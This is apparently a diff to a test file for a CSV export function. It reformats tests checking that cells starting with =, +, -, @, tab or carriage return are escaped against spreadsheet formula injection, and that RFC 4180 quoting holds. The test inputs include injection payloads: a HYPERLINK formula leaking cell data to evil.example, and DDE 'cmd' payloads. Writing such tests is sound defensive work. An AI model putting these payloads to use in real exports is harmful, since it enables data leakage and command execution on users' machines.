@@ -3,8 +3,8 @@ import { csvCell, toCsv } from './csv';
 
 test('a cell a spreadsheet would run as a formula is kept as text: =, +, -, @, tab and carriage return', () => {
   expect(csvCell('=HYPERLINK("http://evil.example/?leak="&A1,"Click")')).toBe(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`);
-  expect(csvCell('+cmd|\' /C calc\'!A0')).toBe(`'+cmd|' /C calc'!A0`);
-  expect(csvCell('-2+3+cmd|\' /C calc\'!A0')).toBe(`'-2+3+cmd|' /C calc'!A0`);
+  expect(csvCell("+cmd|' /C calc'!A0")).toBe(`'+cmd|' /C calc'!A0`);
+  expect(csvCell("-2+3+cmd|' /C calc'!A0")).toBe(`'-2+3+cmd|' /C calc'!A0`);
   expect(csvCell('@SUM(1+1)*cmd')).toBe(`'@SUM(1+1)*cmd`);
   expect(csvCell('\t=1+1')).toBe(`"'\t=1+1"`);
   expect(csvCell('\r=1+1')).toBe(`"'\r=1+1"`);
@@ -22,7 +22,13 @@ test('plain numbers stay numbers, signed or not; other text is left as it is', (
 });
 
 test('RFC 4180: quotes doubled, a cell with a comma or line break quoted, CRLF after every row', () => {
-  expect(toCsv([['name', 'note'], ['Farmer, north', 'said "hi"\nthen left'], [1, null]])).toBe('name,note\r\n"Farmer, north","said ""hi""\nthen left"\r\n1,\r\n');
+  expect(
+    toCsv([
+      ['name', 'note'],
+      ['Farmer, north', 'said "hi"\nthen left'],
+      [1, null],
+    ]),
+  ).toBe('name,note\r\n"Farmer, north","said ""hi""\nthen left"\r\n1,\r\n');
   expect(toCsv([])).toBe('');
 });
 
